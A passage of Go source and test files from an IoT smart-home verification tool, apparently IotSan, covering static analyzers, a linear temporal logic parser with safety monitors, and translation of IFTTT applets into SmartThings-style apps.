	case *ast.FuncLit:
		// A closure body sees the enclosing taints but its own
		// control flow is scanned linearly like any block.
		sc.stmt(e.Body, t.clone())
	}
}

// call scans a call's operands and, when the callee is an annotated
// sink, reports double-retires and taints the retired argument.
func (sc *retireScanner) call(call *ast.CallExpr, t taintSet) {
	callee := calleeFunc(sc.pass.Info, call)
	retireIdx := -1
	if callee != nil {
		if idx, ok := sc.sinks[callee]; ok {
			retireIdx = idx
		}
	}
	// The function operand itself (e.g. a receiver) is read.
	if sel, ok := ast.Unparen(call.Fun).(*ast.SelectorExpr); ok {
		sc.expr(sel.X, t)
	} else {
		sc.expr(call.Fun, t)
	}
	for i, arg := range call.Args {
		if i == retireIdx {
			path := pathString(arg)
			if path != "" {
				if pos, ok := t.hit(path); ok {
					sc.pass.Reportf(arg.Pos(),
						"%s is retired twice: already passed to a recycle/retire sink at line %d",
						path, sc.pass.Fset.Position(pos).Line)
				}
				t[path] = call.Pos()
				continue
			}
		}
		sc.expr(arg, t)
	}
}
