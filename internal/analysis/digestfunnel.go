package analysis

import (
	"go/ast"
	"go/types"
	"strings"
)

// DigestFunnelAnalyzer enforces the single-funnel property the ROADMAP
// scaling items (out-of-core store, distributed sharding) depend on:
// every digest of state-encode bytes must flow through engine.digest
// or one of the sanctioned implementations behind it. Outside
// functions annotated `//iotsan:digest-funnel`, it reports
//
//   - any call to a raw hash primitive annotated `//iotsan:hash-sink`
//     (fnv1a, hash2, fnv1a64, newBlockMix, ...),
//   - any use of hash/maphash, or a Write/Sum call on a hash.Hash
//     (e.g. a hash/fnv hasher), and
//   - any call to a state-encoding method (annotated
//     `//iotsan:state-encode`, or named Encode/CanonicalEncode on a
//     type from internal/model) whose result is then hashed.
//
// The encode→hash flow check is intraprocedural and over-approximate:
// once a variable holds encode output, hashing it anywhere in the
// function is reported.
var DigestFunnelAnalyzer = &Analyzer{
	Name: "digestfunnel",
	Doc:  "state-encode bytes may only be hashed inside the sanctioned digest funnel",
	Run:  runDigestFunnel,
}

// encodeMethodNames is the name-based fallback for cross-package
// enforcement: the annotations on State.Encode/Model.CanonicalEncode
// live in internal/model and are invisible when analyzing another
// package, so encode calls are also recognized by method name and
// defining package.
var encodeMethodNames = map[string]bool{
	"Encode":          true,
	"CanonicalEncode": true,
}

func runDigestFunnel(pass *Pass) error {
	hashSinks := make(map[*types.Func]bool)
	encodeFns := make(map[*types.Func]bool)
	funnels := make(map[*types.Func]bool)
	for _, file := range pass.Files {
		for _, decl := range file.Decls {
			fn, ok := decl.(*ast.FuncDecl)
			if !ok {
				continue
			}
			obj, _ := pass.Info.Defs[fn.Name].(*types.Func)
			if obj == nil {
				continue
			}
			for _, dir := range parseDirectives(fn.Doc) {
				switch dir.kind {
				case "hash-sink":
					hashSinks[obj] = true
				case "state-encode":
					encodeFns[obj] = true
				case "digest-funnel":
					funnels[obj] = true
				}
			}
		}
	}

	isEncodeCall := func(call *ast.CallExpr) bool {
		fn := calleeFunc(pass.Info, call)
		if fn == nil {
			return false
		}
		if encodeFns[fn] {
			return true
		}
		if encodeMethodNames[fn.Name()] && fn.Pkg() != nil &&
			strings.HasSuffix(fn.Pkg().Path(), "internal/model") {
			return true
		}
		return false
	}
	// isHashCall reports hash sinks: annotated primitives, anything
	// from hash/maphash, and Write/Sum methods on a hash.Hash.
	isHashCall := func(call *ast.CallExpr) (string, bool) {
		fn := calleeFunc(pass.Info, call)
		if fn == nil {
			return "", false
		}
		if hashSinks[fn] {
			return fn.Name(), true
		}
		if pkg := fn.Pkg(); pkg != nil {
			switch pkg.Path() {
			case "hash/maphash":
				return "maphash." + fn.Name(), true
			case "hash":
				switch fn.Name() {
				case "Write", "Sum", "Sum32", "Sum64":
					return "hash.Hash." + fn.Name(), true
				}
			}
		}
		return "", false
	}

	for _, file := range pass.Files {
		for _, decl := range file.Decls {
			fn, ok := decl.(*ast.FuncDecl)
			if !ok || fn.Body == nil {
				continue
			}
			if obj, _ := pass.Info.Defs[fn.Name].(*types.Func); obj != nil && funnels[obj] {
				continue // sanctioned digest implementation
			}
			// encodeTainted holds variables carrying state-encode output.
			encodeTainted := make(map[types.Object]bool)
			holdsEncode := func(e ast.Expr) bool {
				switch e := ast.Unparen(e).(type) {
				case *ast.CallExpr:
					return isEncodeCall(e)
				case *ast.Ident:
					return encodeTainted[pass.Info.Uses[e]]
				case *ast.SliceExpr:
					if id, ok := ast.Unparen(e.X).(*ast.Ident); ok {
						return encodeTainted[pass.Info.Uses[id]]
					}
				}
				return false
			}
			ast.Inspect(fn.Body, func(n ast.Node) bool {
				switch n := n.(type) {
				case *ast.AssignStmt:
					for i, rhs := range n.Rhs {
						if !holdsEncode(rhs) || i >= len(n.Lhs) {
							continue
						}
						if id, ok := n.Lhs[i].(*ast.Ident); ok {
							if obj := identObj(pass.Info, id); obj != nil {
								encodeTainted[obj] = true
							}
						}
					}
				case *ast.CallExpr:
					name, hash := isHashCall(n)
					if !hash {
						return true
					}
					for _, arg := range n.Args {
						if holdsEncode(arg) {
							pass.Reportf(n.Pos(),
								"state-encode bytes are hashed via %s outside the digest funnel; route this through engine.digest", name)
							return true
						}
					}
					pass.Reportf(n.Pos(),
						"call to hash primitive %s outside the digest funnel; route this through engine.digest", name)
				}
				return true
			})
		}
	}
	return nil
}

// identObj resolves an identifier in either definition or use position.
func identObj(info *types.Info, id *ast.Ident) types.Object {
	if obj := info.Defs[id]; obj != nil {
		return obj
	}
	return info.Uses[id]
}
