package ltl

import (
	"strings"
	"testing"
	"testing/quick"
)

func TestParseAndRender(t *testing.T) {
	tests := []struct{ in, want string }{
		{"G p", "G p"},
		{"G (a -> b)", "G (a -> b)"},
		{"G !(a && b)", "G !(a && b)"},
		{"p U q", "p U q"},
		{"F (p && X q)", "F (p && X q)"},
		{"[] (a || b)", "G (a || b)"},
		{"<> done", "F done"},
		{"a -> b -> c", "a -> (b -> c)"}, // right-associative
		{"!a || b && c", "!a || (b && c)"},
		{"G (anyone_home || main_door_locked)", "G (anyone_home || main_door_locked)"},
	}
	for _, tt := range tests {
		f, err := Parse(tt.in)
		if err != nil {
			t.Errorf("Parse(%q): %v", tt.in, err)
			continue
		}
		if got := f.String(); got != tt.want {
			t.Errorf("Parse(%q).String() = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestParseErrors(t *testing.T) {
	for _, in := range []string{"", "G", "(a", "a &&", "G (p -> )", "a b", "U p"} {
		if _, err := Parse(in); err == nil {
			t.Errorf("Parse(%q): expected error", in)
		}
	}
}

func TestAtoms(t *testing.T) {
	f := MustParse("G (a -> (b && !a) || c)")
	got := f.Atoms()
	want := []string{"a", "b", "c"}
	if len(got) != len(want) {
		t.Fatalf("atoms = %v", got)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("atoms = %v, want %v", got, want)
		}
	}
}

func TestEvalProp(t *testing.T) {
	f := MustParse("(a && !b) || (c -> d)")
	env := func(m map[string]bool) func(string) bool {
		return func(a string) bool { return m[a] }
	}
	if !f.EvalProp(env(map[string]bool{"a": true, "b": false})) {
		t.Error("a&&!b should hold")
	}
	if !f.EvalProp(env(map[string]bool{"c": false})) {
		t.Error("c->d with !c should hold")
	}
	if f.EvalProp(env(map[string]bool{"a": true, "b": true, "c": true, "d": false})) {
		t.Error("should not hold")
	}
}

func TestCompileSafetyInvariant(t *testing.T) {
	m, err := CompileSafety(MustParse("G !(away && unlocked)"))
	if err != nil {
		t.Fatal(err)
	}
	if m.Kind != Invariant {
		t.Fatalf("kind = %v", m.Kind)
	}
	ok := m.Step(func(a string) bool { return a == "away" })
	if !ok {
		t.Error("away && !unlocked should satisfy")
	}
	ok = m.Step(func(a string) bool { return true })
	if ok {
		t.Error("away && unlocked should violate")
	}
}

func TestCompileSafetyNextResponse(t *testing.T) {
	m, err := CompileSafety(MustParse("G (req -> X ack)"))
	if err != nil {
		t.Fatal(err)
	}
	if m.Kind != NextResponse {
		t.Fatalf("kind = %v", m.Kind)
	}
	m.Reset()
	states := []map[string]bool{
		{"req": true},                // arm
		{"ack": true},                // satisfied
		{"req": true},                // arm again
		{"req": false, "ack": false}, // violated
	}
	results := []bool{true, true, true, false}
	for i, st := range states {
		got := m.Step(func(a string) bool { return st[a] })
		if got != results[i] {
			t.Errorf("step %d = %v, want %v", i, got, results[i])
		}
	}
}

func TestCompileSafetyRejectsLiveness(t *testing.T) {
	for _, in := range []string{"F p", "G F p", "p U q", "G (p -> F q)"} {
		if _, err := CompileSafety(MustParse(in)); err == nil {
			t.Errorf("CompileSafety(%q): expected rejection", in)
		}
	}
}

// TestRoundTripProperty: rendering a parsed formula and reparsing it
// yields an equivalent formula (property-based).
func TestRoundTripProperty(t *testing.T) {
	atoms := []string{"a", "b", "c", "p", "q"}
	// Generate random formulas from a seed sequence.
	var gen func(seed int64, depth int) *Formula
	gen = func(seed int64, depth int) *Formula {
		if depth <= 0 {
			return &Formula{Op: OpAtom, Atom: atoms[abs(seed)%int64(len(atoms))]}
		}
		switch abs(seed) % 8 {
		case 0:
			return &Formula{Op: OpAtom, Atom: atoms[abs(seed/8)%int64(len(atoms))]}
		case 1:
			return &Formula{Op: OpNot, L: gen(seed/3, depth-1)}
		case 2:
			return &Formula{Op: OpAnd, L: gen(seed/3, depth-1), R: gen(seed/5, depth-1)}
		case 3:
			return &Formula{Op: OpOr, L: gen(seed/3, depth-1), R: gen(seed/5, depth-1)}
		case 4:
			return &Formula{Op: OpImplies, L: gen(seed/3, depth-1), R: gen(seed/5, depth-1)}
		case 5:
			return &Formula{Op: OpGlobally, L: gen(seed/3, depth-1)}
		case 6:
			return &Formula{Op: OpUntil, L: gen(seed/3, depth-1), R: gen(seed/5, depth-1)}
		default:
			return &Formula{Op: OpNext, L: gen(seed/3, depth-1)}
		}
	}
	prop := func(seed int64) bool {
		f := gen(seed, 4)
		g, err := Parse(f.String())
		if err != nil {
			t.Logf("reparse of %q failed: %v", f.String(), err)
			return false
		}
		return g.String() == f.String()
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

func abs(x int64) int64 {
	if x < 0 {
		return -x
	}
	return x
}

// TestEvalPropTotality: propositional evaluation never panics for
// propositional formulas (property-based).
func TestEvalPropTotality(t *testing.T) {
	prop := func(a, b, c bool) bool {
		f := MustParse("((x -> y) <-> (!x || y)) && (z || !z)")
		env := map[string]bool{"x": a, "y": b, "z": c}
		return f.EvalProp(func(at string) bool { return env[at] })
	}
	if err := quick.Check(prop, nil); err != nil {
		t.Error(err)
	}
}

func TestFormulaStringNoTrailingSpace(t *testing.T) {
	f := MustParse("G ( a && b )")
	if s := f.String(); strings.Contains(s, "  ") {
		t.Errorf("double space in %q", s)
	}
}
