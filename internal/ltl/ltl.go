// Package ltl implements the linear temporal logic used to express
// IotSan's safe-physical-state properties (§8: "These kinds of
// properties can be verified using linear temporal logic").
//
// The package provides a parser for full propositional LTL (G F X U W R,
// boolean connectives, named atoms), a classifier for the safety
// fragment, and monitor compilation for the forms the model checker
// evaluates on every reached state:
//
//	G p          — an invariant over propositional p
//	G (p -> X q) — a one-step response
//
// Liveness formulas parse but are rejected by CompileSafety; bounded
// model checking of safety properties is what IotSan (like Spin used as
// a falsifier, §2.3) performs.
package ltl

import (
	"fmt"
	"strings"
)

// Op is a formula node operator.
type Op int

// Operators.
const (
	OpAtom Op = iota
	OpTrue
	OpFalse
	OpNot
	OpAnd
	OpOr
	OpImplies
	OpIff
	OpGlobally   // G
	OpEventually // F
	OpNext       // X
	OpUntil      // U
	OpWeakUntil  // W
	OpRelease    // R
)

// Formula is an LTL formula tree.
type Formula struct {
	Op   Op
	Atom string
	L, R *Formula
}

// String renders the formula in the input syntax.
func (f *Formula) String() string {
	switch f.Op {
	case OpAtom:
		return f.Atom
	case OpTrue:
		return "true"
	case OpFalse:
		return "false"
	case OpNot:
		return "!" + f.L.paren()
	case OpAnd:
		return f.L.paren() + " && " + f.R.paren()
	case OpOr:
		return f.L.paren() + " || " + f.R.paren()
	case OpImplies:
		return f.L.paren() + " -> " + f.R.paren()
	case OpIff:
		return f.L.paren() + " <-> " + f.R.paren()
	case OpGlobally:
		return "G " + f.L.paren()
	case OpEventually:
		return "F " + f.L.paren()
	case OpNext:
		return "X " + f.L.paren()
	case OpUntil:
		return f.L.paren() + " U " + f.R.paren()
	case OpWeakUntil:
		return f.L.paren() + " W " + f.R.paren()
	case OpRelease:
		return f.L.paren() + " R " + f.R.paren()
	}
	return "?"
}

func (f *Formula) paren() string {
	switch f.Op {
	case OpAtom, OpTrue, OpFalse, OpNot, OpGlobally, OpEventually, OpNext:
		return f.String()
	}
	return "(" + f.String() + ")"
}

// Atoms returns the distinct atom names in the formula, in first-use
// order.
func (f *Formula) Atoms() []string {
	seen := map[string]bool{}
	var out []string
	var walk func(*Formula)
	walk = func(n *Formula) {
		if n == nil {
			return
		}
		if n.Op == OpAtom && !seen[n.Atom] {
			seen[n.Atom] = true
			out = append(out, n.Atom)
		}
		walk(n.L)
		walk(n.R)
	}
	walk(f)
	return out
}

// IsPropositional reports whether the formula contains no temporal
// operators.
func (f *Formula) IsPropositional() bool {
	if f == nil {
		return true
	}
	switch f.Op {
	case OpGlobally, OpEventually, OpNext, OpUntil, OpWeakUntil, OpRelease:
		return false
	}
	return f.L.IsPropositional() && f.R.IsPropositional()
}

// EvalProp evaluates a propositional formula under an atom assignment.
// It panics on temporal operators; callers classify first.
func (f *Formula) EvalProp(env func(atom string) bool) bool {
	switch f.Op {
	case OpAtom:
		return env(f.Atom)
	case OpTrue:
		return true
	case OpFalse:
		return false
	case OpNot:
		return !f.L.EvalProp(env)
	case OpAnd:
		return f.L.EvalProp(env) && f.R.EvalProp(env)
	case OpOr:
		return f.L.EvalProp(env) || f.R.EvalProp(env)
	case OpImplies:
		return !f.L.EvalProp(env) || f.R.EvalProp(env)
	case OpIff:
		return f.L.EvalProp(env) == f.R.EvalProp(env)
	}
	panic("ltl: EvalProp on temporal formula " + f.String())
}

// ---- Parser ----

// A ParseError reports a syntax error in a formula.
type ParseError struct {
	Input string
	Pos   int
	Msg   string
}

func (e *ParseError) Error() string {
	return fmt.Sprintf("ltl: %s at %d in %q", e.Msg, e.Pos, e.Input)
}

type fparser struct {
	in  string
	pos int
}

// Parse parses an LTL formula.
func Parse(input string) (*Formula, error) {
	p := &fparser{in: input}
	f, err := p.parseIff()
	if err != nil {
		return nil, err
	}
	p.skipWS()
	if p.pos != len(p.in) {
		return nil, &ParseError{p.in, p.pos, "trailing input"}
	}
	return f, nil
}

// MustParse parses or panics; for the static property catalog.
func MustParse(input string) *Formula {
	f, err := Parse(input)
	if err != nil {
		panic(err)
	}
	return f
}

func (p *fparser) skipWS() {
	for p.pos < len(p.in) && (p.in[p.pos] == ' ' || p.in[p.pos] == '\t' || p.in[p.pos] == '\n') {
		p.pos++
	}
}

func (p *fparser) peekStr(s string) bool {
	p.skipWS()
	return strings.HasPrefix(p.in[p.pos:], s)
}

func (p *fparser) accept(s string) bool {
	if p.peekStr(s) {
		p.pos += len(s)
		return true
	}
	return false
}

func (p *fparser) parseIff() (*Formula, error) {
	l, err := p.parseImplies()
	if err != nil {
		return nil, err
	}
	for p.accept("<->") {
		r, err := p.parseImplies()
		if err != nil {
			return nil, err
		}
		l = &Formula{Op: OpIff, L: l, R: r}
	}
	return l, nil
}

func (p *fparser) parseImplies() (*Formula, error) {
	l, err := p.parseOr()
	if err != nil {
		return nil, err
	}
	// Right-associative.
	if p.accept("->") {
		r, err := p.parseImplies()
		if err != nil {
			return nil, err
		}
		return &Formula{Op: OpImplies, L: l, R: r}, nil
	}
	return l, nil
}

func (p *fparser) parseOr() (*Formula, error) {
	l, err := p.parseAnd()
	if err != nil {
		return nil, err
	}
	for p.accept("||") {
		r, err := p.parseAnd()
		if err != nil {
			return nil, err
		}
		l = &Formula{Op: OpOr, L: l, R: r}
	}
	return l, nil
}

func (p *fparser) parseAnd() (*Formula, error) {
	l, err := p.parseBinaryTemporal()
	if err != nil {
		return nil, err
	}
	for p.accept("&&") {
		r, err := p.parseBinaryTemporal()
		if err != nil {
			return nil, err
		}
		l = &Formula{Op: OpAnd, L: l, R: r}
	}
	return l, nil
}

func (p *fparser) parseBinaryTemporal() (*Formula, error) {
	l, err := p.parseUnary()
	if err != nil {
		return nil, err
	}
	for {
		switch {
		case p.acceptWord("U"):
			r, err := p.parseUnary()
			if err != nil {
				return nil, err
			}
			l = &Formula{Op: OpUntil, L: l, R: r}
		case p.acceptWord("W"):
			r, err := p.parseUnary()
			if err != nil {
				return nil, err
			}
			l = &Formula{Op: OpWeakUntil, L: l, R: r}
		case p.acceptWord("R"):
			r, err := p.parseUnary()
			if err != nil {
				return nil, err
			}
			l = &Formula{Op: OpRelease, L: l, R: r}
		default:
			return l, nil
		}
	}
}

// acceptWord matches a single-letter operator not glued to an atom.
func (p *fparser) acceptWord(w string) bool {
	p.skipWS()
	if !strings.HasPrefix(p.in[p.pos:], w) {
		return false
	}
	next := p.pos + len(w)
	if next < len(p.in) && isAtomChar(p.in[next]) {
		return false
	}
	p.pos = next
	return true
}

func isAtomChar(c byte) bool {
	return c == '_' || c == '.' || c == '-' ||
		(c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9')
}

func (p *fparser) parseUnary() (*Formula, error) {
	p.skipWS()
	switch {
	case p.accept("!"):
		f, err := p.parseUnary()
		if err != nil {
			return nil, err
		}
		return &Formula{Op: OpNot, L: f}, nil
	case p.acceptWord("G"), p.acceptWord("[]"):
		f, err := p.parseUnary()
		if err != nil {
			return nil, err
		}
		return &Formula{Op: OpGlobally, L: f}, nil
	case p.acceptWord("F"), p.acceptWord("<>"):
		f, err := p.parseUnary()
		if err != nil {
			return nil, err
		}
		return &Formula{Op: OpEventually, L: f}, nil
	case p.acceptWord("X"):
		f, err := p.parseUnary()
		if err != nil {
			return nil, err
		}
		return &Formula{Op: OpNext, L: f}, nil
	case p.accept("("):
		f, err := p.parseIff()
		if err != nil {
			return nil, err
		}
		if !p.accept(")") {
			return nil, &ParseError{p.in, p.pos, "expected ')'"}
		}
		return f, nil
	}
	return p.parseAtom()
}

func (p *fparser) parseAtom() (*Formula, error) {
	p.skipWS()
	start := p.pos
	for p.pos < len(p.in) && isAtomChar(p.in[p.pos]) {
		p.pos++
	}
	if p.pos == start {
		return nil, &ParseError{p.in, p.pos, "expected atom or '('"}
	}
	word := p.in[start:p.pos]
	switch word {
	case "true":
		return &Formula{Op: OpTrue}, nil
	case "false":
		return &Formula{Op: OpFalse}, nil
	case "G", "F", "X", "U", "W", "R":
		return nil, &ParseError{p.in, start, "temporal operator used as atom"}
	}
	return &Formula{Op: OpAtom, Atom: word}, nil
}

// ---- Safety monitors ----

// MonitorKind classifies compiled safety monitors.
type MonitorKind int

// Monitor kinds.
const (
	// Invariant monitors check a propositional formula on every state
	// (from G p).
	Invariant MonitorKind = iota
	// NextResponse monitors check G (p -> X q): if p held in the
	// previous state, q must hold now.
	NextResponse
)

// Monitor is a compiled safety-property observer, stepped on every
// state of an execution.
type Monitor struct {
	Kind    MonitorKind
	Source  *Formula
	p, q    *Formula
	armed   bool // for NextResponse: p held in the previous state
	started bool
}

// CompileSafety compiles a safety-fragment formula to a monitor. It
// accepts G p (p propositional) and G (p -> X q); other shapes return an
// error.
func CompileSafety(f *Formula) (*Monitor, error) {
	if f.Op != OpGlobally {
		return nil, fmt.Errorf("ltl: %s is not a G-rooted safety formula", f)
	}
	body := f.L
	if body.IsPropositional() {
		return &Monitor{Kind: Invariant, Source: f, p: body}, nil
	}
	if body.Op == OpImplies && body.L.IsPropositional() &&
		body.R.Op == OpNext && body.R.L.IsPropositional() {
		return &Monitor{Kind: NextResponse, Source: f, p: body.L, q: body.R.L}, nil
	}
	return nil, fmt.Errorf("ltl: %s is outside the supported safety fragment", f)
}

// Reset prepares the monitor for a fresh execution.
func (m *Monitor) Reset() {
	m.armed = false
	m.started = false
}

// Bind compiles a propositional formula into a closed evaluator over a
// caller-supplied atom binding: atom resolution and the boolean
// structure are resolved once at bind time, so evaluating the formula
// on a state is plain closure calls — no per-evaluation environment
// closure, no per-atom map lookups. atom must return nil for unbound
// names (reported as an error).
func Bind[T any](f *Formula, atom func(name string) func(T) bool) (func(T) bool, error) {
	switch f.Op {
	case OpAtom:
		a := atom(f.Atom)
		if a == nil {
			return nil, fmt.Errorf("ltl: unbound atom %q", f.Atom)
		}
		return a, nil
	case OpTrue:
		return func(T) bool { return true }, nil
	case OpFalse:
		return func(T) bool { return false }, nil
	case OpNot:
		l, err := Bind(f.L, atom)
		if err != nil {
			return nil, err
		}
		return func(v T) bool { return !l(v) }, nil
	case OpAnd:
		l, err := Bind(f.L, atom)
		if err != nil {
			return nil, err
		}
		r, err := Bind(f.R, atom)
		if err != nil {
			return nil, err
		}
		return func(v T) bool { return l(v) && r(v) }, nil
	case OpOr:
		l, err := Bind(f.L, atom)
		if err != nil {
			return nil, err
		}
		r, err := Bind(f.R, atom)
		if err != nil {
			return nil, err
		}
		return func(v T) bool { return l(v) || r(v) }, nil
	case OpImplies:
		l, err := Bind(f.L, atom)
		if err != nil {
			return nil, err
		}
		r, err := Bind(f.R, atom)
		if err != nil {
			return nil, err
		}
		return func(v T) bool { return !l(v) || r(v) }, nil
	case OpIff:
		l, err := Bind(f.L, atom)
		if err != nil {
			return nil, err
		}
		r, err := Bind(f.R, atom)
		if err != nil {
			return nil, err
		}
		return func(v T) bool { return l(v) == r(v) }, nil
	}
	return nil, fmt.Errorf("ltl: Bind on temporal formula %s", f)
}

// Step observes the next state (via its atom assignment) and reports
// whether the property still holds.
func (m *Monitor) Step(env func(atom string) bool) bool {
	switch m.Kind {
	case Invariant:
		return m.p.EvalProp(env)
	case NextResponse:
		ok := true
		if m.started && m.armed {
			ok = m.q.EvalProp(env)
		}
		m.armed = m.p.EvalProp(env)
		m.started = true
		return ok
	}
	return true
}
