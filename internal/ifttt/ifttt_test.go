package ifttt

import (
	"strings"
	"testing"

	"iotsan/internal/smartapp"
)

func TestParseApplets(t *testing.T) {
	data := []byte(`[
		{"name":"r1","trigger":{"service":"smartthings","device":"m1","event":"motion.active"},
		 "action":{"service":"hue","device":"l1","command":"on"}}
	]`)
	apps, err := ParseApplets(data)
	if err != nil {
		t.Fatal(err)
	}
	if len(apps) != 1 || apps[0].Trigger.Event != "motion.active" {
		t.Errorf("parsed: %+v", apps)
	}
	if _, err := ParseApplets([]byte(`[{"name":""}]`)); err == nil {
		t.Error("expected error for incomplete applet")
	}
}

func TestToGroovyTranslates(t *testing.T) {
	for _, a := range Table9Applets() {
		src := ToGroovy(a)
		app, err := smartapp.Translate(src)
		if err != nil {
			t.Errorf("%s: %v\n%s", a.Name, err, src)
			continue
		}
		if len(app.Subscriptions) != 1 {
			t.Errorf("%s: %d subscriptions, want 1", a.Name, len(app.Subscriptions))
		}
	}
}

func TestBuildSystem(t *testing.T) {
	sys, apps, err := BuildSystem(Table9Applets())
	if err != nil {
		t.Fatal(err)
	}
	if len(sys.Apps) != 10 || len(apps) != 10 {
		t.Errorf("apps = %d/%d, want 10", len(sys.Apps), len(apps))
	}
	if len(sys.Devices) == 0 {
		t.Error("no devices created")
	}
}

// TestTable9 reproduces the IFTTT validation: all four unsafe physical
// states of Table 9 are violated.
func TestTable9(t *testing.T) {
	res, err := RunTable9(3)
	if err != nil {
		t.Fatal(err)
	}
	want := []string{
		"ifttt.siren-on-intruder",
		"ifttt.no-spurious-siren",
		"ifttt.door-unlocked-away",
		"ifttt.call-on-intruder",
	}
	got := strings.Join(res.ViolatedProperties, ",")
	for _, w := range want {
		if !strings.Contains(got, w) {
			t.Errorf("missing violated property %s (got %s)", w, got)
		}
	}
	t.Logf("violations=%d properties=%v", res.Violations, res.ViolatedProperties)
}
