// Package ifttt applies IotSan to the IFTTT trigger-action platform
// (§11 "Application to other IoT Platforms"). Each applet ("IF This
// Then That" rule) is translated into a single-handler smart app — the
// paper notes "each rule is considered as an app, which has only a
// single event handler" — and the existing dependency analyzer, model
// generator, and checker are reused unchanged. Eight popular IoT-related
// services are modeled as sensor or actuator devices.
package ifttt

import (
	"encoding/json"
	"fmt"
	"strings"

	"iotsan/internal/config"
	"iotsan/internal/ir"
	"iotsan/internal/smartapp"
)

// Trigger is an applet's "This" part.
type Trigger struct {
	Service string `json:"service"` // e.g. "smartthings", "ring", "alexa"
	Device  string `json:"device"`  // device/channel identifier
	Event   string `json:"event"`   // "motion.active", "voice.phrase", ...
}

// Action is an applet's "That" part.
type Action struct {
	Service string `json:"service"`
	Device  string `json:"device"`
	Command string `json:"command"` // "on", "siren", "unlock", ...
}

// Applet is one published IFTTT rule.
type Applet struct {
	Name    string  `json:"name"`
	Trigger Trigger `json:"trigger"`
	Action  Action  `json:"action"`
}

// ParseApplets decodes the crawler's JSON dump of published applets
// (the format of Mi et al.'s IFTTT crawler, which the paper reuses).
func ParseApplets(data []byte) ([]Applet, error) {
	var out []Applet
	if err := json.Unmarshal(data, &out); err != nil {
		return nil, fmt.Errorf("ifttt: %w", err)
	}
	for i, a := range out {
		if a.Name == "" {
			return nil, fmt.Errorf("ifttt: applet %d has no name", i)
		}
		if a.Trigger.Event == "" || a.Action.Command == "" {
			return nil, fmt.Errorf("ifttt: applet %q incomplete", a.Name)
		}
	}
	return out, nil
}

// serviceModels maps the 8 modeled services to device models: voice
// assistants and doorbells are sensors; switch/light/thermostat/lock
// services are actuators; VoIP calls are modeled as a tone actuator
// whose "beeping" state records that a call was placed.
var serviceModels = map[string]string{
	"smartthings": "", // resolved by capability below
	"alexa":       "Button Controller",
	"assistant":   "Button Controller",
	"ring":        "Motion Sensor",
	"hue":         "Smart Bulb",
	"wemo":        "Smart Power Outlet",
	"nest":        "Thermostat",
	"voip":        "Speaker",
}

// Services returns the modeled service names.
func Services() []string {
	return []string{"smartthings", "alexa", "assistant", "ring", "hue", "wemo", "nest", "voip"}
}

// modelFor resolves the device model for a service and attribute or
// command hint.
func modelFor(service, hint string) (string, error) {
	if m, ok := serviceModels[service]; ok && m != "" {
		return m, nil
	}
	if service != "smartthings" {
		return "", fmt.Errorf("ifttt: unsupported service %q", service)
	}
	switch {
	case strings.HasPrefix(hint, "motion"):
		return "Motion Sensor", nil
	case strings.HasPrefix(hint, "contact"):
		return "Contact Sensor", nil
	case strings.HasPrefix(hint, "presence"):
		return "Presence Sensor", nil
	case strings.HasPrefix(hint, "lock"), hint == "unlock":
		return "Smart Lock", nil
	case strings.HasPrefix(hint, "alarm"), hint == "siren", hint == "strobe", hint == "both", hint == "off":
		return "Siren Alarm", nil
	case strings.HasPrefix(hint, "smoke"):
		return "Smoke Detector", nil
	case strings.HasPrefix(hint, "switch"), hint == "on":
		return "Smart Switch", nil
	case strings.HasPrefix(hint, "door"), hint == "open", hint == "close":
		return "Garage Door Opener", nil
	case strings.HasPrefix(hint, "water"):
		return "Water Leak Sensor", nil
	case strings.HasPrefix(hint, "temperature"):
		return "Temperature Sensor", nil
	}
	return "", fmt.Errorf("ifttt: cannot infer device model for %q/%q", service, hint)
}

// triggerEvent maps service triggers onto SmartThings-style attribute
// events: voice phrases become button pushes, doorbell rings become
// motion.
func triggerEvent(t Trigger) string {
	switch t.Service {
	case "alexa", "assistant":
		return "button.pushed"
	case "ring":
		return "motion.active"
	}
	return t.Event
}

// actionCommand maps service actions to device commands.
func actionCommand(a Action) string {
	switch a.Service {
	case "voip":
		return "beep" // a placed call
	case "nest":
		if a.Command == "heat" || a.Command == "cool" {
			return a.Command
		}
		return "heat"
	}
	return a.Command
}

// capabilityForEvent maps an attribute event to the input capability the
// generated app declares.
func capabilityForEvent(event string) string {
	attr := event
	if i := strings.IndexByte(event, '.'); i >= 0 {
		attr = event[:i]
	}
	switch attr {
	case "motion":
		return "motionSensor"
	case "contact":
		return "contactSensor"
	case "presence":
		return "presenceSensor"
	case "button":
		return "button"
	case "smoke":
		return "smokeDetector"
	case "water":
		return "waterSensor"
	case "temperature":
		return "temperatureMeasurement"
	case "lock":
		return "lock"
	case "alarm":
		return "alarm"
	case "switch":
		return "switch"
	}
	return "switch"
}

func capabilityForCommand(cmd string) string {
	switch cmd {
	case "on", "off":
		return "switch"
	case "lock", "unlock":
		return "lock"
	case "siren", "strobe", "both":
		return "alarm"
	case "open", "close":
		return "garageDoorControl"
	case "beep":
		return "tone"
	case "heat", "cool", "auto":
		return "thermostat"
	case "play", "stop", "pause":
		return "musicPlayer"
	case "take":
		return "imageCapture"
	}
	return "switch"
}

// ToGroovy renders the applet as a SmartThings-style app with a single
// event handler holding a single command — the translation of §11.
func ToGroovy(a Applet) string {
	event := triggerEvent(a.Trigger)
	cmd := actionCommand(a.Action)
	return fmt.Sprintf(`
definition(name: %q, namespace: "ifttt", author: "ifttt",
    description: "IFTTT applet: if %s %s then %s %s", category: "IFTTT")
preferences {
    section("Trigger") { input "trigger", "capability.%s" }
    section("Target") { input "target", "capability.%s" }
}
def installed() { subscribe(trigger, %q, ruleHandler) }
def updated() { unsubscribe(); subscribe(trigger, %q, ruleHandler) }
def ruleHandler(evt) {
    target.%s()
}
`, a.Name, a.Trigger.Device, a.Trigger.Event, a.Action.Device, a.Action.Command,
		capabilityForEvent(event), capabilityForCommand(cmd), event, event, cmd)
}

// BuildSystem translates a set of applets into a configured system: one
// app per rule, one device per distinct (service, device) endpoint.
func BuildSystem(applets []Applet) (*config.System, map[string]*ir.App, error) {
	sys := &config.System{
		Name:  "ifttt-home",
		Modes: []string{"Home", "Away", "Night"},
		Mode:  "Home",
	}
	apps := map[string]*ir.App{}
	devSeen := map[string]bool{}

	addDevice := func(service, devID, hint, assoc string) error {
		if devSeen[devID] {
			return nil
		}
		model, err := modelFor(service, hint)
		if err != nil {
			return err
